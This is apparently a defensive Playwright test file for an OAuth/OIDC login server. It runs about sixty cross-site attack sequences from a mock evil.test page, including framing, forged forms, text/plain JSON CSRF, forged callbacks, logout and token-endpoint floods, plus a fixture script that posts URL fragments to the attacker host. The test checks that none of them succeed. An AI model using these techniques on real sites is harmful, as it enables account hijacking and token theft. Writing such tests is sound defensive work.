// What a web page of another site can make a visitor's browser do, in Chromium: it gets no code and
// no ID token, logs nobody out, and gets the visitor's address neither banned nor refused, over
// https and plain http.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { launchChromium, noChromium } from '../support/clients/chromium.ts';
import { elsewhereAt } from '../support/fakes/elsewhere.ts';
import { startFrontProxy } from '../support/fakes/front_proxy.ts';
import { makeCertificates, newFolder } from '../support/fakes/slapd.ts';
import { OWNER, startServer, type TestServer } from '../support/fixtures/server.ts';
import { CHALLENGE } from '../support/fixtures/standard_grants.ts';

/**
 * Where all visitors come from: their own network, in which one person is logged in by the address
 * alone.
 */
const VISITOR = '192.168.7.7';
const INITIAL = 'an-initial-access-token';
const AT_ONCE = 6;
/** A redirect URI that only an app's page can tell to be its own. */
const ELSEWHERE = 'app://elsewhere';

/**
 * What a sequence knows: our origin, the page's own, an authorization request for it, and the
 * page's other clients.
 */
interface Places {
  auth: string;
  evil: string;
  /** The path of Home Assistant's dialect with more parameters. */
  ask(more?: Record<string, string>): string;
  /** The same for the standard profile. */
  standard(more?: Record<string, string>): string;
  /** A client of the attacker that registered itself, and one with a document. */
  registered: string;
  document: string;
  /** An ID token that the attacker got in their own browser. */
  id_token: string;
}

type Sequence = [name: string, script: (places: Places) => string];

const go = (url: string) => `location.href = ${JSON.stringify(url)}`;
const open = (url: string) => `window.open(${JSON.stringify(url)})`;
const times = (count: number, script: string) => `for (let n = 0; n < ${count}; n += 1) { ${script} }`;
const image = (url: string) => `new Image().src = ${JSON.stringify(url)}`;
/** Each of another address, because a browser loads the same one once. */
const images = (count: number, url: string) =>
  times(count, `new Image().src = ${JSON.stringify(`${url}${url.includes('?') ? '&' : '?'}n=`)} + n`);
/** Forms of one page, each sent in a frame of its own. */
const forms = (count: number, action: string, fields: Record<string, string>) =>
  times(
    count,
    `{ const frame = document.createElement('iframe'); frame.name = 'f' + n; document.body.append(frame);
      ${form(action, fields, { target: "'f' + n" })} }`,
  );
const embed = (tag: string, attributes: Record<string, string>) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(attributes)}))`;
const fetched = (url: string, init: object) => `fetch(${JSON.stringify(url)}, ${JSON.stringify(init)}).catch(() => {})`;

/** A form that sends itself; `enctype` text/plain makes any body. */
function form(
  action: string,
  fields: Record<string, string>,
  { method = 'POST', enctype = 'application/x-www-form-urlencoded', target = "''" } = {},
): string {
  const made = `Object.assign(document.createElement('form'), ${JSON.stringify({ action, method, enctype })})`;
  const inputs = Object.entries(fields).map(
    ([name, value]) => `sent.append(Object.assign(document.createElement('input'), ${JSON.stringify({ name, value })}));`,
  );
  return `{ const sent = ${made}; sent.target = ${target}; ${inputs.join(' ')} document.body.append(sent); HTMLFormElement.prototype.submit.call(sent); }`;
}
const posted = (url: string, fields: Record<string, string>) =>
  fetched(url, {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams(fields).toString(),
  });

const UPSTREAM = { auth_provider: 'elsewhere:' };
const BYPASS = { auth_provider: 'trusted_networks:' };
const PASSWORD = { auth_provider: 'homeassistant:' };

const SEQUENCES: Sequence[] = [
  ['navigates to the login page', ({ ask }) => go(ask())],
  ['navigates to the upstream login', ({ ask }) => go(ask(UPSTREAM))],
  ['navigates to the login by network', ({ ask }) => go(ask(BYPASS))],
  ['navigates to the password form', ({ ask }) => go(ask(PASSWORD))],
  ['replaces itself by the upstream login', ({ ask }) => `location.replace(${JSON.stringify(ask(UPSTREAM))})`],
  ['opens a window on the upstream login', ({ ask }) => open(ask(UPSTREAM))],
  ['opens two windows at once', ({ ask }) => `${open(ask(UPSTREAM))}; ${open(ask(BYPASS))}`],
  [
    'opens a window and sends it on',
    ({ auth, ask }) => `{ const w = ${open(`${auth}/`)}; if (w) w.location = ${JSON.stringify(ask(UPSTREAM))}; }`,
  ],
  ['frames the login page', ({ ask }) => embed('iframe', { src: ask() })],
  ['frames the upstream login', ({ ask }) => embed('iframe', { src: ask(UPSTREAM) })],
  ['frames the login by network, sandboxed', ({ ask }) => embed('iframe', { sandbox: 'allow-forms allow-scripts', src: ask(BYPASS) })],
  ['embeds it as an object', ({ ask }) => embed('object', { data: ask(UPSTREAM) })],
  ['loads 100 images of the upstream login', ({ ask }) => images(100, ask(UPSTREAM))],
  ['loads 100 images of the login by network', ({ ask }) => images(100, ask(BYPASS))],
  ['loads 100 images of our own login', ({ auth }) => images(100, `${auth}/login?next=/account/security`)],
  ['loads it as a script', ({ ask }) => embed('script', { src: ask(UPSTREAM) })],
  ['loads it as a style sheet', ({ ask }) => embed('link', { rel: 'stylesheet', href: ask(BYPASS) })],
  ['prefetches it', ({ ask }) => embed('link', { rel: 'prefetch', href: ask(UPSTREAM) })],
  ['fetches it with cookies', ({ ask }) => fetched(ask(UPSTREAM), { mode: 'no-cors', credentials: 'include' })],
  ['fetches it by CORS', ({ ask }) => fetched(ask(BYPASS), { credentials: 'include' })],
  ['fetches it and reads redirects', ({ ask }) => fetched(ask(BYPASS), { redirect: 'manual', credentials: 'include' })],
  [
    'sends a form by GET',
    ({ auth, evil }) =>
      form(`${auth}/auth/authorize`, { client_id: `${evil}/`, redirect_uri: `${evil}/cb`, ...UPSTREAM }, { method: 'GET' }),
  ],
  [
    'sends the request as a form',
    ({ auth, evil }) => form(`${auth}/auth/authorize`, { client_id: `${evil}/`, redirect_uri: `${evil}/cb`, ...BYPASS }),
  ],
  ['presses the button of the upstream login', ({ ask }) => form(ask(UPSTREAM), {})],
  ['presses the button of the login by network', ({ ask }) => form(ask(BYPASS), { csrf_token: 'x'.repeat(43) })],
  ['chooses the user of the network', ({ ask }) => form(ask(BYPASS), { user: 'c'.repeat(32) })],
  [
    'says yes on the consent page',
    ({ ask }) => form(ask().replace('/authorize?', '/authorize/consent?'), { _decision: 'allow', _sid: 'x' }),
  ],
  [
    'says yes for the standard profile',
    ({ standard }) => form(standard().replace('/authorize?', '/authorize/consent?'), { _decision: 'allow', _sid: 'x' }),
  ],
  ['asks for scopes', ({ standard }) => go(standard())],
  ['asks for silence', ({ standard }) => go(standard({ prompt: 'none' }))],
  ['asks for silence in a frame', ({ standard }) => embed('iframe', { src: standard({ prompt: 'none' }) })],
  ['asks for a new login', ({ standard }) => go(standard({ prompt: 'login' }))],
  ['asks for the code in the fragment', ({ standard }) => go(standard({ response_mode: 'fragment' }))],
  ['asks for the code in a form', ({ standard }) => go(standard({ response_mode: 'form_post' }))],
  ['asks for an ID token', ({ standard }) => go(standard({ response_type: 'id_token', nonce: 'n' }))],
  ['asks for a code and an ID token', ({ standard }) => go(standard({ response_type: 'code id_token', nonce: 'n' }))],
  ['is a client that registered itself', ({ standard, registered }) => go(standard({ client_id: registered }))],
  ['is one, and asks for silence', ({ standard, registered }) => go(standard({ client_id: registered, prompt: 'none' }))],
  ['is a client with a document', ({ standard, document }) => go(standard({ client_id: document }))],
  ['is one, and leaves the scope out', ({ ask, document }) => go(ask({ client_id: document, ...UPSTREAM }))],
  ['claims to be the trusted wall tablet', ({ ask }) => go(ask({ client_id: 'https://wall.example.com/', ...BYPASS }))],
  [
    'goes by way of our own login',
    ({ auth, ask }) => go(`${auth}/login?${new URLSearchParams({ next: ask(UPSTREAM).slice(auth.length) })}`),
  ],
  ['asks our own login to lead to it', ({ auth, evil }) => go(`${auth}/login?${new URLSearchParams({ next: `//${evil.slice(7)}/cb` })}`)],
  [
    'brings a forged answer of the upstream',
    ({ auth }) => go(`${auth}/auth/callback/elsewhere?who=mallory&state=${'a'.repeat(32)}.lk_es_forged`),
  ],
  ['navigates to the logout', ({ auth }) => go(`${auth}/logout`)],
  [
    'navigates to the logout with an ID token of its own',
    ({ auth, id_token, evil, document }) =>
      go(
        `${auth}/auth/end_session?${new URLSearchParams({ id_token_hint: id_token, client_id: document, post_logout_redirect_uri: `${evil}/cb` })}`,
      ),
  ],
  ['posts to the logout', ({ auth, id_token }) => form(`${auth}/auth/end_session`, { id_token_hint: id_token })],
  ['loads the logout as an image', ({ auth }) => image(`${auth}/auth/end_session`)],
  [
    'starts the JSON login as a form',
    ({ auth, evil }) =>
      form(
        `${auth}/auth/login_flow`,
        { [`{"client_id":"${evil}/","redirect_uri":"${evil}/cb","handler":["trusted_networks",null],"x":"`]: '"}' },
        { enctype: 'text/plain' },
      ),
  ],
  [
    'starts the JSON login by fetch',
    ({ auth, evil }) =>
      fetched(`${auth}/auth/login_flow`, {
        method: 'POST',
        mode: 'no-cors',
        body: JSON.stringify({ client_id: `${evil}/`, redirect_uri: `${evil}/cb`, handler: ['trusted_networks', null] }),
      }),
  ],
  ['connects a device of its own', ({ auth }) => form(`${auth}/device`, { user_code: 'BBBB-BBBB', _decision: 'allow' })],
  [
    'asks for a code of a protected host',
    ({ auth, evil }) => go(`${auth}/auth/forward/login?host=${evil.slice(7)}&to=/&state=${'a'.repeat(43)}`),
  ],
  ['loads 25 images of apps with pages elsewhere', (places) => times(25, `new Image().src = ${appOfPage(places, 'image')}`)],
  [
    'frames 25 apps with pages elsewhere',
    (places) => times(25, `document.body.append(Object.assign(document.createElement('iframe'), { src: ${appOfPage(places, 'frame')} }))`),
  ],
  ['navigates to the device page with a code', ({ auth }) => go(`${auth}/device?user_code=BBBB-BBBB`)],
  ['loads 30 images of the device page', ({ auth }) => images(30, `${auth}/device?user_code=BBBB-BBBB`)],
  ['revokes by fetch', ({ auth }) => posted(`${auth}/auth/revoke`, { token: 'unknown' })],
  ['posts 15 unknown refresh tokens by fetch', ({ auth, evil }) => times(15, posted(`${auth}/auth/token`, unknownToken(evil)))],
  ['posts 15 unknown refresh tokens by forms', ({ auth, evil }) => forms(15, `${auth}/auth/token`, unknownToken(evil))],
  [
    'posts 15 client secrets by fetch',
    ({ auth }) => times(15, posted(`${auth}/auth/token`, { grant_type: 'client_credentials', client_id: 'unknown', client_secret: 'x' })),
  ],
  ['introspects 15 times by forms', ({ auth }) => forms(15, `${auth}/auth/introspect`, { token: 'x', client_id: 'unknown' })],
  ['introspects 15 times by fetch', ({ auth }) => times(15, posted(`${auth}/auth/introspect`, { token: 'x', client_id: 'unknown' }))],
  ['revokes 15 times by forms', ({ auth }) => forms(15, `${auth}/auth/revoke`, { token: 'x', client_id: 'unknown', client_secret: 'x' })],
];

/** Script for the n-th address at which an app's own page must be fetched. */
function appOfPage({ auth, document }: Places, name: string): string {
  const client_id = document.replace('/doc.json', `/${name}`);
  return `${JSON.stringify(`${auth}/auth/authorize?${new URLSearchParams({ redirect_uri: ELSEWHERE, client_id })}`)} + n + '%2F'`;
}

function unknownToken(evil: string) {
  return { grant_type: 'refresh_token', client_id: `${evil}/`, refresh_token: 'unknown' };
}

/** Where requests of other sites' pages are refused on their own, once too many failed. */
const PROVING = /^\/auth\/(token|introspect|revoke)$/;

/**
 * Milliseconds without a request after which nothing more comes; longer where one was never seen to
 * end.
 */
const QUIET = { idle: 400, open: 3_000 };

function watchTraffic(context: BrowserContext) {
  const running = new Set<Request>();
  let last = performance.now();
  context.on('request', (request) => {
    running.add(request);
    last = performance.now();
  });
  const end = (request: Request) => {
    running.delete(request);
    last = performance.now();
  };
  context.on('requestfinished', end);
  context.on('requestfailed', end);
  return { isQuiet: () => performance.now() - last > (running.size === 0 ? QUIET.idle : QUIET.open) };
}

describe.skipIf(noChromium)('a foreign page', () => {
  const folder = newFolder();
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium(['--host-resolver-rules=MAP *.test 127.0.0.1', '--ignore-certificate-errors']);
  });
  afterAll(() => browser?.close());

  describe.each(['http', 'https'] as const)('over %s', (scheme) => {
    let proxy: Awaited<ReturnType<typeof startFrontProxy>>;
    let server: TestServer;
    let upstream: Server;
    let evil: Server;
    let auth: string;
    let evil_origin: string;
    let places: Omit<Places, 'evil' | 'ask' | 'standard'>;
    /** What came to the foreign page's own server. */
    const received: string[] = [];

    beforeAll(async () => {
      const { key, certificate } = makeCertificates(folder);
      const tls = scheme === 'https' ? { tls: { key: readFileSync(key), cert: readFileSync(certificate) } } : {};
      proxy = await startFrontProxy({ ...tls, client_address: VISITOR });
      auth = `${scheme}://auth.test:${proxy.port}`;
      // The visitor is logged in there: it sends everybody back at once.
      upstream = createServer((request, response) => {
        const asked = new URL(request.url ?? '/', 'http://upstream.test').searchParams;
        const back = `${asked.get('back')}?${new URLSearchParams({ state: asked.get('state') ?? '', who: 'visitor' })}`;
        response.writeHead(303, { location: back }).end();
      });
      evil = createServer((request, response) => {
        const { url = '/' } = request;
        if (url === '/doc.json') {
          const document = {
            client_id: `${evil_origin.replace('evil.test', '127.0.0.1')}/doc.json`,
            redirect_uris: [`${evil_origin}/cb`],
            post_logout_redirect_uris: [`${evil_origin}/cb`],
          };
          return void response
            .writeHead(200, { 'content-type': 'application/json', 'cache-control': 'max-age=86400' })
            .end(JSON.stringify(document));
        }
        request.setEncoding('utf8').on('data', (body) => received.push(body));
        received.push(url);
        // A fragment counts, too.
        const script = 'if (location.hash) fetch("/told", { method: "POST", body: location.hash });';
        response
          .writeHead(200, { 'content-type': 'text/html' })
          .end(`<title>evil</title><link rel="redirect_uri" href="${ELSEWHERE}"><body><script>${script}</script>`);
      });
      for (const each of [upstream, evil]) await new Promise<void>((done) => each.listen(0, '127.0.0.1', done));
      const portOf = (each: Server) => (each.address() as AddressInfo).port;
      evil_origin = `http://evil.test:${portOf(evil)}`;
      server = await startServer({
        clock: () => new Date(),
        extra_provider_types: [elsewhereAt(`http://upstream.test:${portOf(upstream)}/`)],
        config: {
          public_url: auth,
          http: { trusted_proxies: ['127.0.0.1'] },
          auth_providers: [
            { type: 'homeassistant' },
            { type: 'elsewhere', new_users: 'activate' },
            {
              type: 'trusted_networks',
              trusted_networks: ['192.168.7.0/24'],
              trusted_users: { '192.168.7.0/24': { group: 'hall' } },
              allow_bypass_login: true,
            },
          ],
          groups: [{ id: 'hall', name: 'Hall', policy: {} }],
          allow_http_redirect_uris: true,
          registration: { enabled: true, initial_access_token: INITIAL },
          url_clients: { allow_private_addresses: true, trusted: ['https://wall.example.com/'] },
        },
      });
      await server.createOwner();
      const { kysely } = server.container.database;
      await kysely
        .insertInto('users')
        .values({ id: 'c'.repeat(32), name: 'Kiosk', is_active: true, created_at: server.clock() })
        .execute();
      await kysely
        .insertInto('user_groups')
        .values({ user_id: 'c'.repeat(32), group_id: 'hall' })
        .execute();
      proxy.passTo(await server.origin());
      places = { auth, ...(await attackersClients()) };
    });
    afterAll(async () => {
      await server?.close();
      await proxy?.close();
      for (const each of [upstream, evil]) each?.closeAllConnections();
      for (const each of [upstream, evil]) each?.close();
    });

    async function attackersClients() {
      const json = { redirect_uris: [`${evil_origin}/cb`], token_endpoint_auth_method: 'none', client_name: 'Bank' };
      const registered = (await server.inject({ method: 'POST', url: '/auth/register', token: INITIAL, json })).json().client_id as string;
      const document = `${evil_origin.replace('evil.test', '127.0.0.1')}/doc.json`;
      const { issuer, clientDirectory, database } = server.container;
      const { id: user_id } = await database.kysely.selectFrom('users').select('id').where('is_owner', '=', true).executeTakeFirstOrThrow();
      const client = (await clientDirectory.find(document, VISITOR))!;
      const facts = { user_id, client_id: document, client, scope: ['openid'], sid: 'd'.repeat(32), auth_time: new Date(), amr: ['pwd'] };
      const none = { nonce: null, claims: null, dpop_jkt: null, refresh_token: null, ha_auth_provider: null, resource: [] };
      const grant = { refresh_token_id: 'e'.repeat(32), profile: 'standard' as const, access_token_expiration: 1800 };
      const { id_token = '' } = await issuer.issue({ ...facts, ...none, ...grant });
      return { registered, document, id_token };
    }

    /** The page of one sequence, whose number is part of its redirect URI. */
    function placesOf(number: number): Places {
      const home = `${evil_origin}/s${number}`;
      const own = { client_id: `${home}/`, redirect_uri: `${home}/cb`, state: 's' };
      const address = (parameters: Record<string, string>) => `${auth}/auth/authorize?${new URLSearchParams(parameters)}`;
      const isOther = ({ client_id = '' }: Record<string, string>) => [places.registered, places.document].includes(client_id);
      const at = (more: Record<string, string>) => (isOther(more) ? { redirect_uri: `${evil_origin}/cb` } : {});
      const pkce = { code_challenge: CHALLENGE, code_challenge_method: 'S256', scope: 'openid', response_type: 'code' };
      return {
        ...places,
        evil: home,
        ask: (more = {}) => address({ ...own, ...at(more), ...more }),
        standard: (more = {}) => address({ ...own, ...pkce, ...at(more), ...more }),
      };
    }

    const rows = async () => {
      const { kysely } = server.container.database;
      const codes = await kysely.selectFrom('authorization_codes').select('client_id').execute();
      const grants = await kysely.selectFrom('refresh_tokens').select('client_id').execute();
      const sids = await kysely.selectFrom('sessions').select('sid').orderBy('sid').execute();
      // The owner's code from onboarding is no app's.
      return {
        codes: [...codes, ...grants].filter(
          ({ client_id }) => client_id !== null && (/evil|127\.0\.0\.1/.test(client_id) || client_id === places.registered),
        ),
        sids,
      };
    };

    async function newVisitor(is_logged_in: boolean): Promise<BrowserContext> {
      const context = await browser.newContext({ locale: 'en-GB', ignoreHTTPSErrors: true });
      if (!is_logged_in) return context;
      const page = await context.newPage();
      await page.goto(`${auth}/login?next=/account/sessions`);
      await page.getByLabel('Username').fill(OWNER.username);
      await page.getByLabel('Password').fill(OWNER.password);
      await page.getByRole('button', { name: 'Log in', exact: true }).click();
      await page.waitForURL('**/account/sessions');
      await page.close();
      return context;
    }

    /**
     * Each page does what its sequence says, until all have asked us for something and nothing
     * moves any more.
     */
    async function runAll(context: BrowserContext): Promise<void> {
      const traffic = watchTraffic(context);
      const silent: string[] = [];
      for (let start = 0; start < SEQUENCES.length; start += AT_ONCE) {
        const waiting = new Set(SEQUENCES.slice(start, start + AT_ONCE).map(([name]) => name));
        await Promise.all(
          SEQUENCES.slice(start, start + AT_ONCE).map(async ([name, script], index) => {
            const number = start + index;
            const page = await context.newPage();
            await page.goto(`${evil_origin}/s${number}/`);
            page.on('request', (request) => void (request.url().startsWith(auth) && waiting.delete(name)));
            page.on('popup', () => void waiting.delete(name));
            await page.evaluate(`setTimeout(() => { ${script(placesOf(number))} }, 0)`);
          }),
        );
        await vi.waitUntil(() => waiting.size === 0 && traffic.isQuiet(), { timeout: 20_000, interval: 50 }).catch(() => {});
        silent.push(...waiting);
        for (const page of context.pages()) await page.close();
      }
      expect(silent).toEqual([]);
    }

    // S1, S9
    test.each([false, true])(
      'a foreign page gets nothing from a visitor whose session is %s',
      async (is_logged_in) => {
        const context = await newVisitor(is_logged_in);
        try {
          const before = await rows();
          received.length = 0;
          proxy.seen.length = 0;
          await runAll(context);
          const after = await rows();
          expect(after).toEqual(before);
          expect(received.filter((text) => /[?&#]code=|id_token=|access_token=|lk_ac/.test(text))).toEqual([]);
          // Every sequence ran, and over plain http no request said where it came from.
          expect(proxy.seen.length).toBeGreaterThan(450);
          for (const path of ['/auth/token', '/auth/introspect', '/auth/revoke'])
            expect(proxy.seen.filter(({ method, url }) => method === 'POST' && url === path).length).toBeGreaterThan(14);
          if (scheme === 'http') expect(proxy.seen.filter(({ site }) => site !== null)).toEqual([]);
          // Clients whose page must be fetched before the redirect is known share the fetch places
          // of the address.
          const fetched = [ELSEWHERE, 'https://wall.example.com/'].map(encodeURIComponent);
          const isOfItsOwn = (url: string) => PROVING.test(url) || fetched.some((part) => url.includes(part));
          const refused = proxy.seen.filter(({ status, url }) => (status === 429 && !isOfItsOwn(url)) || status >= 500);
          expect(refused).toEqual([]);
          if (is_logged_in) await expectLoggedIn(context);
        } finally {
          await context.close();
        }
      },
      300_000,
    );

    async function expectLoggedIn(context: BrowserContext): Promise<void> {
      const page = await context.newPage();
      await page.goto(`${auth}/account/sessions`);
      expect(await page.getByText('This browser').count()).toBe(1);
    }

    // S9
    test('a foreign page cannot get the visitor’s address banned or refused', async () => {
      expect(await server.container.throttle.listBans(10)).toEqual([]);
      // An app on the visitor's own machine meets no limit of its own.
      const token_request = { method: 'POST' as const, url: '/auth/token', form: unknownToken(evil_origin), remote_address: VISITOR };
      expect((await server.inject(token_request)).json()).toMatchObject({ error: 'invalid_grant' });
      const context = await newVisitor(true);
      await expectLoggedIn(context);
      // An app whose page must be fetched is a click away at most.
      const page = await context.newPage();
      const client_id = places.document.replace('/doc.json', '/own/');
      const answer = await page.goto(`${auth}/auth/authorize?${new URLSearchParams({ client_id, redirect_uri: ELSEWHERE })}`);
      if (answer?.status() === 429) await page.getByRole('button', { name: 'Continue' }).click();
      await page.locator('button[name="_decision"][value="allow"]').waitFor();
      await context.close();
    });
  });

  test('a foreign page tries at least thirty requests', () => {
    expect(new Set(SEQUENCES.map(([name]) => name)).size).toBeGreaterThanOrEqual(30);
    expect(new Set(SEQUENCES.map(([name]) => name)).size).toBe(SEQUENCES.length);
  });
});
